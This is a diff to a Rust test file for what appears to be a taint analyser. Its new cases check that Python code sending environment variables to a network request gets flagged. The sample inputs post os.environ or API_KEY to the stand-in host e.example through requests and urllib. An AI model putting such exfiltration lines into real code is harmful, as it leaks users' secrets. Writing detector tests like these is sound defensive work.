@@ -29,6 +29,21 @@ const CASES: &[Case] = &[
         &["Request py:urllib.request.urlopen Environment API_KEY http://e.example/?k="],
     ),
     (
+        "all of the environment is copied into something else",
+        "import os, requests\nrequests.post('http://e.example', json={**os.environ})",
+        &["EnvironmentRead py:os.environ", "Request pypi:requests.post Environment"],
+    ),
+    (
+        "what stands in place of a variable that is not set says nothing of it",
+        "import os, urllib.request\nurllib.request.urlopen('http://e.example/?k=' + os.environ.get('API_KEY', ''))",
+        &["Request py:urllib.request.urlopen Partial Environment API_KEY"],
+    ),
+    (
+        "what a request is prepared with is sent",
+        "import os, urllib.request\nclass A:\n    def __init__(self):\n        self.b = repr(os.environ)\n    def go(self):\n        urllib.request.urlopen(urllib.request.Request('http://e.example', data=self.b))\nA().go()",
+        &["Request py:urllib.request.Request Data Environment"],
+    ),
+    (
         "a variable in an f-string",
         "import os, requests\nrequests.get(f\"http://e.example/{os.getenv('TOKEN')}\")",
         &["Request pypi:requests.get Environment TOKEN"],
